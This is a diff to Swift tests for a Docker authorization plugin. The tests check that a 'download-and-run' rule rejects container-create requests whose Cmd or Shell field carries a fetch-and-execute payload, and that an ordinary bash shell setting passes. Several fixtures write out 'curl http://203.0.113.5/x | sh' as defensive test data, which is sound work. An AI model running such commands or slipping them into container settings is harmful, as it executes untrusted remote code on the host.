@@ -61,15 +61,28 @@ struct ReviewerJudgeTests {
                 "Healthcheck.Test"
             ),
             (#""Cmd":["sh","-c","curl http://203.0.113.5/x | sh"],"Healthcheck":{"Test":["CMD","true"]}"#, "Cmd"),
+            // The engine runs these words before the line of a health check, which may be the image's.
+            (#""Cmd":["/app"],"Shell":["sh","-c","curl http://203.0.113.5/x | sh"]"#, "Shell"),
         ])
-    func probes(commands: String, field: String) async throws {
+    func probes(settings: String, field: String) async throws {
         let kept = PluginServerTests.Kept()
         let answer = try await authorizer(.enforce, kept).authorize(
-            PluginServerTests.record("/v1.41/containers/create", body: #"{"Image":"a/b:1",\#(commands)}"#))
+            PluginServerTests.record("/v1.41/containers/create", body: #"{"Image":"a/b:1",\#(settings)}"#))
         #expect(!answer.allow)
         let reason = try #require(
             kept.decisions.first?.decision.reasons.first { $0.ruleName == "download-and-run" })
-        #expect(reason.fields.map(\.path).filter { $0.hasPrefix("Healthcheck") || $0 == "Cmd" } == [field])
+        let commands = ["Cmd", "Healthcheck.Test", "Shell"]
+        #expect(reason.fields.map(\.path).filter { commands.contains($0) } == [field])
+    }
+
+    @Test("a shell that only runs a health check's line is no reason")
+    func ordinaryShell() async throws {
+        let kept = PluginServerTests.Kept()
+        let body =
+            #"{"Image":"a/b:1","Shell":["/bin/bash","-o","pipefail","-c"],"Healthcheck":{"Test":["CMD-SHELL","true"]}}"#
+        let answer = try await authorizer(.enforce, kept).authorize(
+            PluginServerTests.record("/v1.41/containers/create", body: body))
+        #expect(answer.allow, "\(answer.message)")
     }
 
     @Test("a container that was privileged before the gate came does not start")
